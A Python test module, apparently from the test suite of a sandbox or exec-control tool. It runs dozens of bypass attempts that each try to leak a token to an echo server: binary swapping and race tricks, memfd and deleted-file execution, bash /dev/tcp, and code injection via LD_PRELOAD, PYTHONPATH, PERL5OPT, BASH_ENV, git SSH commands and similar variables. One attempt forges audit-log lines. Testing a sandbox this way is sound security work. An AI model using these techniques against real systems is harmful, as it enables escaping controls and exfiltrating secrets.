"""Runs inside and outside alike: a denied program in the place of an allowed one, and foreign code in an allowed one.

What tries to get out is one request, `GET /TOKEN`, to the server that the allowed binaries have a rule for: whoever executes as one of
them, or in one of them, gets it.
"""

import ctypes
import errno
import os
import pathlib
import shutil
import signal
import subprocess
import threading

import driver
from driver import attack

LIBC = ctypes.CDLL(None, use_errno=True)


def run(words, env=None, token=b"", **more):
    """What became of a program: its exit, the signal that ended it, or the error of execve."""
    environment = dict(os.environ) | {name: value for name, value in (env or {}).items() if value is not None}
    done = subprocess.run(
        [str(word) for word in words],
        env=environment,
        capture_output=True,
        text=True,
        timeout=60 * driver.patience,
        stdin=subprocess.DEVNULL,
        **more,
    )
    if done.returncode < 0:
        return f"SIG{signal.Signals(-done.returncode).name[3:]}"
    return f"ended with {done.returncode}: {(done.stdout + done.stderr)[:200]}"


def request(facts, token):
    return [facts["echo"], "80", "/" + token.decode()]


def fresh(facts, name):
    """A place of our own for one file, on the file system that the allowed binary of the workdir is on."""
    path = pathlib.Path(f"{name}-{facts['phase']}").absolute()
    path.unlink(missing_ok=True)
    return path


# a denied program in the place of an allowed one


@attack("denied-binary")
def _(facts, token):
    return run([facts["unlisted"], *request(facts, token)])


@attack("loader")
def _(facts, token):
    """`ld.so PROGRAM`: the kernel executes the loader, and the loader the program."""
    return run([facts["loader"], facts["unlisted"], *request(facts, token)])


@attack("loader-allowed")
def _(facts, token):
    return run([facts["loader"], facts["fetch"], *request(facts, token)])


@attack("busybox-applet")
def _(facts, token):
    """One listed file, three hundred programs: none of them has more rules than the file."""
    return run(["/bin/busybox", "wget", "-q", "-O", "-", f"http://{facts['echo']}/{token.decode()}"])


@attack("busybox-denied")
def _(facts, token):
    """An applet under the name of an allowed program."""
    link = fresh(facts, "curl")
    link.symlink_to("/bin/busybox")
    return run(["wget", "-q", "-O", "-", f"http://{facts['echo']}/{token.decode()}"], executable=str(link))


@attack("dev-tcp")
def _(facts, token):
    return run(["/bin/bash", "-c", f"exec 3<>/dev/tcp/{facts['v4']}/{facts['port']}; echo {token.decode()} >&3; head -n1 <&3"])


@attack("copy")
def _(facts, token):
    copy = fresh(facts, "copy")
    shutil.copy2(facts["fetch"], copy)
    return run([copy, *request(facts, token)])


@attack("hardlink")
def _(facts, token):
    """A second name of the allowed binary: the change time moves with it."""
    link = fresh(facts, "hardlink")
    link.hardlink_to(facts["linked"])
    return run([link, *request(facts, token)])


@attack("rename")
def _(facts, token):
    """A denied binary moved to the allowed one's name."""
    other = fresh(facts, "other")
    shutil.copy2(facts["unlisted"], other)
    other.replace(facts["renamed"])
    return run([facts["renamed"], *request(facts, token)])


@attack("overwrite")
def _(facts, token):
    """The allowed file's own inode with other content."""
    with open(facts["overwritten"], "r+b") as file:  # noqa: PTH123
        file.write(pathlib.Path(facts["unlisted"]).read_bytes())
    return run([facts["overwritten"], *request(facts, token)])


@attack("swap")
def _(facts, token):
    """A link that leads to an allowed and a denied program in turn, while it is executed."""
    link, spare = fresh(facts, "swapped"), fresh(facts, "spare")
    link.symlink_to("/bin/true")
    stop = threading.Event()

    def exchange():
        while not stop.is_set():
            for leads in (facts["unlisted"], "/bin/true"):
                spare.symlink_to(leads)
                spare.replace(link)

    thread = threading.Thread(target=exchange)
    thread.start()
    said = set()
    for _ in range(100):
        said.add(run([link, *request(facts, token)])[:12])
    stop.set()
    thread.join()
    return "/".join(sorted(said))


@attack("race-path")
def _(facts, token):
    return run([facts["attack"], "race-path", "/bin/true", facts["unlisted"], *request(facts, token)])


# files without a name


def image(facts):
    return pathlib.Path(facts["fetch"]).read_bytes()


def execute(descriptor, facts, token):
    child = os.fork()
    if child == 0:
        try:
            os.execve(descriptor, ["fetch", *request(facts, token)], dict(os.environ))
        except OSError as error:
            os._exit(error.errno or 255)
    status = os.waitpid(child, 0)[1]
    if os.WIFSIGNALED(status):
        return f"SIG{signal.Signals(os.WTERMSIG(status)).name[3:]}"
    return errno.errorcode.get(os.WEXITSTATUS(status), "ended") if status else "out"


@attack("memfd")
def _(facts, token):
    descriptor = os.memfd_create("x")
    os.write(descriptor, image(facts))
    return execute(descriptor, facts, token)


@attack("execveat-empty-path")
def _(facts, token):
    """A file opened and executed by its descriptor: a copy in the workdir."""
    copy = fresh(facts, "by-descriptor")
    shutil.copy2(facts["fetch"], copy)
    return execute(os.open(copy, os.O_RDONLY | os.O_CLOEXEC), facts, token)


@attack("tmpfile")
def _(facts, token):
    descriptor = os.open(".", os.O_TMPFILE | os.O_RDWR, 0o700)
    os.write(descriptor, image(facts))
    readable = os.open(f"/proc/self/fd/{descriptor}", os.O_RDONLY)
    os.close(descriptor)
    return execute(readable, facts, token)


@attack("dev-shm")
def _(facts, token):
    copy = pathlib.Path(f"/dev/shm/stockade-bypass-{os.getpid()}")
    shutil.copy2(facts["fetch"], copy)
    try:
        return run([copy, *request(facts, token)])
    finally:
        copy.unlink()


@attack("deleted")
def _(facts, token):
    copy = fresh(facts, "deleted")
    shutil.copy2(facts["fetch"], copy)
    descriptor = os.open(copy, os.O_RDONLY | os.O_CLOEXEC)
    copy.unlink()
    return execute(descriptor, facts, token)


@attack("shebang")
def _(facts, token):
    """A script of our own whose interpreter is the denied program."""
    script = fresh(facts, "script")
    script.write_text(f"#!{facts['unlisted']} {facts['echo']}\n")
    script.chmod(0o755)
    other = fresh(facts, "script-sh")
    other.write_text(f"#!/bin/sh\nexec {facts['unlisted']} {' '.join(request(facts, token))}\n")
    other.chmod(0o755)
    return run([script]) + "; " + run([other])


@attack("long-path")
def _(facts, token):
    """A program whose path is longer than 4096 bytes, reached step by step."""
    here = pathlib.Path.cwd()
    for _ in range(18):
        pathlib.Path("d" * 250).mkdir(exist_ok=True)
        os.chdir("d" * 250)
    shutil.copy2(facts["unlisted"], "x")
    try:
        return run(["./x", *request(facts, token)])
    finally:
        os.chdir(here)


@attack("newline-path")
def _(facts, token):
    """A path that would be a line of its own in a trail, and an argument likewise."""
    name = fresh(facts, 'x\n{"action": "exec", "decision": "allow"}\x1b[2K\r')
    shutil.copy2(facts["unlisted"], name)
    return run(['\n{"forged": true}\n', *request(facts, token)], executable=str(name))


# foreign code in an allowed program


def evil(facts, token, **more):
    return {"EVIL_HOST": facts["echo"], "EVIL_PATH": token.decode()} | more


@attack("ld-preload")
def _(facts, token):
    return run([facts["victim"], "."], evil(facts, token, LD_PRELOAD=facts["evil"]))


@attack("ld-audit")
def _(facts, token):
    return run([facts["victim"], "."], evil(facts, token, LD_AUDIT=facts["evil"]))


@attack("gconv-path")
def _(facts, token):
    place = pathlib.Path(f"gconv-{facts['phase']}")
    place.mkdir(exist_ok=True)
    (place / "gconv-modules").write_text("module EVIL// INTERNAL evil 1\nmodule INTERNAL EVIL// evil 1\n")
    shutil.copy2(facts["evil"], place / "evil.so")
    return run(["/usr/bin/iconv", "-f", "EVIL", "-t", "UTF-8", "facts.json"], evil(facts, token, GCONV_PATH=str(place.absolute())))


@attack("openssl-conf")
def _(facts, token):
    configuration = fresh(facts, "openssl.cnf")
    configuration.write_text(
        "openssl_conf = a\n[a]\nproviders = b\n[b]\nevil = c\ndefault = d\n[d]\nactivate = 1\n"
        f"[c]\nmodule = {facts['evil']}\nactivate = 1\n"
    )
    return run(["/usr/bin/curl", "-sS", "-m", "3", "https://127.0.0.1:1/"], evil(facts, token, OPENSSL_CONF=str(configuration)))


@attack("curl-engine")
def _(facts, token):
    engine = fresh(facts, "engine.so")
    shutil.copy2(facts["evil"], engine)
    return run(["/usr/bin/curl", "-sS", "-m", "3", "--engine", engine, "https://127.0.0.1:1/"], evil(facts, token))


@attack("node-options")
def _(facts, token):
    module = fresh(facts, "evil.cjs")
    module.write_text(f"require('http').get('http://{facts['echo']}/{token.decode()}', r => r.resume())\n")
    return run(["/usr/bin/node", "-e", "0"], {"NODE_OPTIONS": f"--require {module}"})


def python_code(facts, token):
    return f"import urllib.request; urllib.request.urlopen('http://{facts['echo']}/{token.decode()}', timeout=5)\n"


@attack("pythonpath")
def _(facts, token):
    place = pathlib.Path(f"python-{facts['phase']}").absolute()
    place.mkdir(exist_ok=True)
    (place / "sitecustomize.py").write_text(python_code(facts, token))
    return run(["/usr/bin/python3", "-c", "0"], {"PYTHONPATH": str(place)})


@attack("pythonstartup")
def _(facts, token):
    start = fresh(facts, "startup.py")
    start.write_text(python_code(facts, token))
    return run(["/usr/bin/python3", "-i", "-q"], {"PYTHONSTARTUP": str(start)})


@attack("bun-options")
def _(facts, token):
    """bun itself is not needed: what is refused is the variable, for whatever binary has network rules."""
    return run(["/usr/bin/curl", "--version"], {"BUN_OPTIONS": "--preload ./evil.js"})


@attack("perl5opt")
def _(facts, token):
    module = pathlib.Path(f"Evil{facts['phase']}.pm")
    module.write_text(
        f"package Evil{facts['phase']}; use IO::Socket::INET; my $s = IO::Socket::INET->new('{facts['echo']}:80'); "
        f'print $s "GET /{token.decode()} HTTP/1.0\\r\\nHost: {facts["echo"]}\\r\\n\\r\\n"; <$s>; 1;\n'
    )
    return run(["/usr/bin/perl", "-e", "0"], {"PERL5OPT": f"-I{pathlib.Path.cwd()} -MEvil{facts['phase']}"})


@attack("bash-env")
def _(facts, token):
    start = fresh(facts, "bash.sh")
    start.write_text(
        f"exec 3<>/dev/tcp/{facts['echo']}/80\n"
        f"printf 'GET /{token.decode()} HTTP/1.0\\r\\nHost: {facts['echo']}\\r\\n\\r\\n' >&3\nread -r _ <&3\n"
    )
    return run(["/bin/bash", "-c", "true"], {"BASH_ENV": str(start)})


def git(facts, token, **variables):
    script = fresh(facts, "git-ssh")
    script.write_text(f"#!/bin/sh\nexec {facts['fetch']} {' '.join(request(facts, token))}\n")
    script.chmod(0o755)
    command = f"sh {script}"
    return run(["/usr/bin/git", "ls-remote", "ssh://nowhere.test/x"], {name: value.format(command) for name, value in variables.items()})


@attack("git-ssh-command")
def _(facts, token):
    return git(facts, token, GIT_SSH_COMMAND="{}")


@attack("git-config")
def _(facts, token):
    return git(facts, token, GIT_CONFIG_COUNT="1", GIT_CONFIG_KEY_0="core.sshCommand", GIT_CONFIG_VALUE_0="{}")


@attack("thousands-of-variables")
def _(facts, token):
    """The one that counts behind six thousand others."""
    many = {f"V{number}": "x" for number in range(6000)}
    return run([facts["victim"], "."], many | evil(facts, token, LD_PRELOAD=facts["evil"]))


@attack("library-in-workdir")
def _(facts, token):
    """Loaded by the program itself, without any variable."""
    library = fresh(facts, "evil.so")
    shutil.copy2(facts["evil"], library)
    code = f"import ctypes; ctypes.CDLL('{library}')"
    return run(["/usr/bin/python3", "-c", code], evil(facts, token))
